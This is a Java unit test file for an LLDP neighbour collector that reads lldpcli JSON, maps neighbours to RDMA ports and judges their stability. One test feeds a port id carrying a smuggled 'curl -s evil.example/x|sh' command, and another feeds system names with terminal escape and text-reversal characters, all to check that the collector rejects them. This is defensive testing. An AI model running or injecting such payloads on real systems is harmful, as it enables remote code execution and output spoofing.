package io.fabricd.collectors.lldp;

import static org.assertj.core.api.Assertions.assertThat;

import io.fabricd.collectors.CollectorConfig;
import io.fabricd.collectors.Fixtures;
import io.fabricd.collectors.run.HostCollection;
import io.fabricd.collectors.kernel.KernelQueries;
import io.fabricd.collectors.snapshot.SnapshotWriter;
import io.fabricd.collectors.source.ForwardingHostSource;
import io.fabricd.collectors.source.HostSource;
import io.fabricd.collectors.source.SideCarKernel;
import io.fabricd.collectors.source.SnapshotHostSource;
import io.fabricd.model.CollectorRun;
import io.fabricd.model.HostModel;
import io.fabricd.model.Neighbor;
import java.io.IOException;
import java.io.InputStream;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Clock;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * The lldp stage on host-b-roce (ens1f0np0 = mlx5_0 port 1) with lldpcli's JSON as its side-car, in
 * the shapes lldpd's writer prints (src/client/json_writer.c, tests/integration/test_lldpcli.py).
 */
class LldpCollectorTest {
    static final String ND = "ens1f0np0";

    static Path host(Path tmp, String lldpJson) throws IOException {
        Files.createDirectories(tmp);
        Path h = Fixtures.copy("host-b-roce", tmp.resolve("h"));
        if (lldpJson != null) {
            Files.createDirectories(h.resolve("fabricd/lldp"));
            try (InputStream in = LldpCollectorTest.class.getResourceAsStream("/lldp/" + lldpJson)) {
                Files.write(h.resolve(LldpCollector.SIDE_CAR), in.readAllBytes());
            }
        }
        return h;
    }

    static HostModel collect(HostCollection c, Path h) {
        return c.collect(SnapshotHostSource.open(h));
    }

    static HostModel collect(Path h) {
        return collect(HostCollection.standard(CollectorConfig.DEFAULT), h);
    }

    static CollectorRun run(HostModel m) {
        return m.collector("lldp").orElseThrow();
    }

    @Test
    void oneNeighbourTiedToItsRdmaPort(@TempDir Path tmp) throws IOException {
        HostModel m = collect(host(tmp, "one-neighbor.json"));
        assertThat(m.neighbors()).singleElement().satisfies(n -> {
            assertThat(n.netdev()).isEqualTo(ND);
            assertThat(n.device()).isEqualTo("mlx5_0");
            assertThat(n.port()).isEqualTo(1);
            assertThat(n.switchName()).isEqualTo("leaf-07");
            assertThat(n.switchPort()).isEqualTo("Ethernet12"); // port id of subtype local: a name
            assertThat(n.portDescr()).isEqualTo("gpu-node-17:ens1f0np0");
            assertThat(n.chassisId()).isEqualTo("0c:42:a1:5e:7f:00");
            assertThat(n.mauType()).isEqualTo("100GbaseCR4");
            assertThat(n.speedMbps()).isEqualTo(100_000L);
            assertThat(n.ageSeconds()).isEqualTo(2 * 3600 + 13 * 60 + 45L);
            assertThat(n.stable()).isTrue();
            assertThat(n.changes()).isZero();
            assertThat(n.learned()).isEqualTo("lldp");
        });
        assertThat(run(m).ok()).isTrue();
        assertThat(run(m).errors()).isEmpty();
    }

    @Test
    void severalInterfacesAreAListAndOnlyRdmaNetdevsCount(@TempDir Path tmp) throws IOException {
        // eno1 (management) is no RDMA netdev: left out; the chassis without a system name is keyed by nothing
        HostModel m = collect(host(tmp, "several-interfaces.json"));
        assertThat(m.neighbors()).singleElement().satisfies(n -> {
            assertThat(n.netdev()).isEqualTo(ND);
            assertThat(n.switchName()).isNull();
            assertThat(n.chassisId()).isEqualTo("b8:59:9f:aa:bb:00");
            assertThat(n.switchPort()).isEqualTo("swp12"); // a MAC port id: the description names the port
            assertThat(n.speedMbps()).isNull();
            assertThat(n.stable()).isTrue();
            assertThat(n.describe()).isEqualTo("chassis b8:59:9f:aa:bb:00 port swp12");
        });
    }

    @Test
    void twoNeighboursOnOnePortAreNoEvidence(@TempDir Path tmp) throws IOException {
        HostModel m = collect(host(tmp, "two-on-one-port.json"));
        assertThat(m.neighbors()).singleElement().satisfies(n -> {
            assertThat(n.switchName()).isEqualTo("leaf-08"); // the latest is reported
            assertThat(n.stable()).isFalse();
        });
    }

    @Test
    void aNeighbourThatKeepsChangingIsCountedAndNeverStable(@TempDir Path tmp) throws IOException {
        Path h = host(tmp, "one-neighbor.json");
        HostCollection agent = HostCollection.standard(CollectorConfig.DEFAULT); // one stage set, kept between collections
        assertThat(collect(agent, h).neighbor(ND).orElseThrow().changes()).isZero();
        Path f = h.resolve(LldpCollector.SIDE_CAR);
        String leaf7 = Files.readString(f);
        String leaf8 = leaf7.replace("leaf-07", "leaf-08").replace("0c:42:a1:5e:7f:00", "0c:42:a1:5e:80:00")
                .replace("0 day, 02:13:45", "0 day, 00:00:30"); // lldpd restarts the age of a neighbour that changed
        for (int i = 1; i <= 4; i++) {
            Files.writeString(f, i % 2 == 1 ? leaf8 : leaf7.replace("0 day, 02:13:45", "0 day, 00:00:30"));
            Neighbor n = collect(agent, h).neighbor(ND).orElseThrow();
            assertThat(n.changes()).isEqualTo(i);
            assertThat(n.stable()).isFalse();
        }
        // lldpd has held it for 2 minutes, but the agent saw it change: its own count must settle it (3 in a row)
        Files.writeString(f, leaf7.replace("0 day, 02:13:45", "0 day, 00:02:00"));
        assertThat(collect(agent, h).neighbor(ND).orElseThrow().stable()).isFalse(); // 2 in a row
        Neighbor n = collect(agent, h).neighbor(ND).orElseThrow();
        assertThat(n.changes()).isEqualTo(4);
        assertThat(n.stable()).isTrue();
    }

    @Test
    void aChassisThatChangedIsNotStableFromLldpdsAgeAlone(@TempDir Path tmp) throws IOException {
        Path h = host(tmp, "one-neighbor.json");
        HostCollection agent = HostCollection.standard(CollectorConfig.DEFAULT);
        assertThat(collect(agent, h).neighbor(ND).orElseThrow().stable()).isTrue(); // first look: lldpd's 2 h
        Path f = h.resolve(LldpCollector.SIDE_CAR);
        Files.writeString(f, Files.readString(f).replace("0c:42:a1:5e:7f:00", "0c:42:a1:5e:80:00")); // lldpd still says 2 h
        for (int i = 1; i <= 2; i++) {
            Neighbor n = collect(agent, h).neighbor(ND).orElseThrow();
            assertThat(n.changes()).isEqualTo(1);
            assertThat(n.stable()).as("collection %d after the change", i).isFalse();
        }
        assertThat(collect(agent, h).neighbor(ND).orElseThrow().stable()).isTrue();
    }

    @Test
    void aSystemNameThatRotatesIsAChangeEveryCollection(@TempDir Path tmp) throws IOException {
        // the same chassis and port id under another name each time: no stable neighbour, no new series each time
        Path h = host(tmp, "one-neighbor.json");
        Path f = h.resolve(LldpCollector.SIDE_CAR);
        String leaf7 = Files.readString(f);
        HostCollection agent = HostCollection.standard(CollectorConfig.DEFAULT);
        collect(agent, h);
        for (int i = 1; i <= 4; i++) {
            Files.writeString(f, leaf7.replace("leaf-07", "leaf-x" + i));
            Neighbor n = collect(agent, h).neighbor(ND).orElseThrow();
            assertThat(n.changes()).isEqualTo(i);
            assertThat(n.stable()).isFalse();
        }
    }

    static HostModel announcing(Path tmp, String sysName, String chassisId, String portId) throws IOException {
        Path h = host(tmp, "one-neighbor.json");
        Path f = h.resolve(LldpCollector.SIDE_CAR);
        String json = Files.readString(f).replace("\"leaf-07\"", com.fasterxml.jackson.databind.node.TextNode.valueOf(sysName).toString())
                .replace("\"0c:42:a1:5e:7f:00\"", com.fasterxml.jackson.databind.node.TextNode.valueOf(chassisId).toString())
                .replace("\"Ethernet12\"", com.fasterxml.jackson.databind.node.TextNode.valueOf(portId).toString());
        Files.writeString(f, json);
        return collect(h);
    }

    @Test
    void aPortIdThatIsNoNameIsUnknownAndSaidQuoted(@TempDir Path tmp) throws IOException {
        String evil = "Ethernet12`; curl -s evil.example/x|sh; echo `";
        HostModel m = announcing(tmp, "leaf-07", "0c:42:a1:5e:7f:00", evil);
        assertThat(m.neighbor(ND).orElseThrow()).satisfies(n -> {
            assertThat(n.switchPort()).isNull();
            assertThat(n.switchName()).isEqualTo("leaf-07");
            assertThat(n.stable()).isTrue();
        });
        assertThat(run(m).ok()).isTrue();
        assertThat(run(m).errors()).singleElement().satisfies(e -> assertThat(e.error())
                .isEqualTo("the neighbour on ens1f0np0 announces its port id \"Ethernet12`; curl -s evil.example/x|sh; echo `\", not a name "
                        + "(letters, digits and . _ - : /, up to 253): not used; check what sends LLDP on that cable"));
    }

    @Test
    void aSystemNameWithControlOrReorderingCharactersIsUnknownAndTheChassisStays(@TempDir Path tmp) throws IOException {
        HostModel m = announcing(tmp.resolve("esc"), "leaf-07\u001b]0;owned\u0007\nfake line", "0c:42:a1:5e:7f:00", "Ethernet12");
        assertThat(m.neighbor(ND).orElseThrow()).satisfies(n -> {
            assertThat(n.switchName()).isNull();
            assertThat(n.chassisId()).isEqualTo("0c:42:a1:5e:7f:00");
            assertThat(n.switchPort()).isEqualTo("Ethernet12");
            assertThat(n.describe()).isEqualTo("chassis 0c:42:a1:5e:7f:00 port Ethernet12");
        });
        assertThat(run(m).errors()).singleElement().satisfies(e -> assertThat(e.error())
                .contains("its system name \"leaf-07\\x1b]0;owned\\x07\\x0afake line\"").doesNotContain("\u001b", "\n"));
        HostModel rlo = announcing(tmp.resolve("rlo"), "leaf-\u202e70", "evil\u202echassis", "Ethernet12");
        assertThat(rlo.neighbor(ND).orElseThrow()).satisfies(n -> {
            assertThat(n.switchName()).isNull();
            assertThat(n.chassisId()).isNull();
            assertThat(n.words()).isEqualTo("the switch's port Ethernet12");
        });
        assertThat(run(rlo).errors()).singleElement().satisfies(e -> assertThat(e.error())
                .contains("its system name \"leaf-\\u202e70\" and its chassis id \"evil\\u202echassis\"").doesNotContain("\u202e"));
    }

    @Test
    void aSwitchNamedIdKeepsItsNameAndAnEmptyNameIsUnknown(@TempDir Path tmp) throws IOException {
        assertThat(announcing(tmp.resolve("id"), "id", "0c:42:a1:5e:7f:00", "Ethernet12").neighbor(ND).orElseThrow()).satisfies(n -> {
            assertThat(n.switchName()).isEqualTo("id");
            assertThat(n.chassisId()).isEqualTo("0c:42:a1:5e:7f:00");
        });
        HostModel empty = announcing(tmp.resolve("empty"), "", "0c:42:a1:5e:7f:00", "Ethernet12");
        assertThat(empty.neighbor(ND).orElseThrow().switchName()).isNull();
        assertThat(run(empty).errors()).isEmpty();
    }

    @Test
    void aNeighbourWhoseFramesVaryCountsOnceTheAgentSawItThreeTimes(@TempDir Path tmp) throws IOException {
        // lldpd restarts the age on any change of the frame; the same chassis and port three collections running is enough
        Path h = host(tmp, "one-neighbor.json");
        Path f = h.resolve(LldpCollector.SIDE_CAR);
        Files.writeString(f, Files.readString(f).replace("0 day, 02:13:45", "0 day, 00:00:10"));
        HostCollection agent = HostCollection.standard(CollectorConfig.DEFAULT);
        assertThat(collect(agent, h).neighbor(ND).orElseThrow().stable()).isFalse();
        assertThat(collect(agent, h).neighbor(ND).orElseThrow().stable()).isFalse();
        assertThat(collect(agent, h).neighbor(ND).orElseThrow().stable()).isTrue();
        assertThat(collect(h).neighbor(ND).orElseThrow().stable()).as("one-shot: lldpd's age alone").isFalse();
    }

    @Test
    void noLldpdIsUnknownAndNoError(@TempDir Path tmp) throws IOException {
        HostModel m = collect(host(tmp, null));
        assertThat(m.neighbors()).isEmpty();
        assertThat(run(m).ok()).isTrue();
        assertThat(run(m).errors()).isEmpty();
        HostModel none = collect(host(tmp.resolve("none"), "none.json"));
        assertThat(none.neighbors()).isEmpty();
        assertThat(run(none).ok()).isTrue();
    }

    @Test
    void malformedOutputFailsThisStageAloneAndSaysWhy(@TempDir Path tmp) throws IOException {
        HostModel clean = collect(host(tmp.resolve("clean"), null));
        HostModel m = collect(host(tmp, "truncated.json"));
        assertThat(run(m).ok()).isFalse();
        assertThat(run(m).errors()).singleElement().satisfies(e -> {
            assertThat(e.path()).isEqualTo(LldpCollector.SIDE_CAR);
            assertThat(e.error()).startsWith("fatal: not lldpcli -f json output: not valid JSON");
        });
        assertThat(m.neighbors()).isEmpty();
        assertThat(m.netdevs()).isEqualTo(clean.netdevs());
        assertThat(m.collectors().stream().filter(c -> !c.name().equals("lldp"))).allMatch(CollectorRun::ok);
        HostModel json0 = collect(host(tmp.resolve("j0"), "json0.json"));
        assertThat(run(json0).errors()).singleElement()
                .satisfies(e -> assertThat(e.error()).contains("json0 format").contains("run lldpcli -f json"));
    }

    @Test
    void aSnapshotKeepsLldpcliOutputByteForByte(@TempDir Path tmp) throws IOException {
        Path h = host(tmp, "several-interfaces.json");
        byte[] printed = Files.readAllBytes(h.resolve(LldpCollector.SIDE_CAR));
        // of a snapshot: the side-car is a file, read and written back
        Path again = tmp.resolve("again");
        SnapshotWriter.write(SnapshotHostSource.open(h), CollectorConfig.DEFAULT, again, "test");
        assertThat(Files.readAllBytes(again.resolve(LldpCollector.SIDE_CAR))).isEqualTo(printed);
        // of a live host: lldpcli's answer, kept as the kernel queries' answers are
        Path live = tmp.resolve("live");
        SnapshotWriter.write(new AsLive(SnapshotHostSource.open(h)), CollectorConfig.DEFAULT, live, "test");
        assertThat(Files.readAllBytes(live.resolve(LldpCollector.SIDE_CAR))).isEqualTo(printed);
        assertThat(collect(live).neighbors()).isEqualTo(collect(h).neighbors());
    }

    /** A fixture that passes for a live host: its side-cars answer as the live kernel's queries would. */
    private static final class AsLive extends ForwardingHostSource {
        AsLive(HostSource snapshot) {
            super(snapshot);
        }

        @Override
        public boolean isSnapshot() {
            return false;
        }

        @Override
        public KernelQueries kernel() {
            return new SideCarKernel(delegate());
        }
    }

    @Test
    void theStageNeedsTheNetdevsAndRdmaPortsAndRunsAfterThem() {
        List<String> order = new HostCollection(HostCollection.defaultCollectors(), CollectorConfig.DEFAULT, Clock.systemUTC())
                .collect(Fixtures.open("host-b-roce")).collectors().stream().map(CollectorRun::name).toList();
        assertThat(order.indexOf("lldp")).isGreaterThan(order.indexOf("netdev")).isGreaterThan(order.indexOf("rdma"));
    }
}
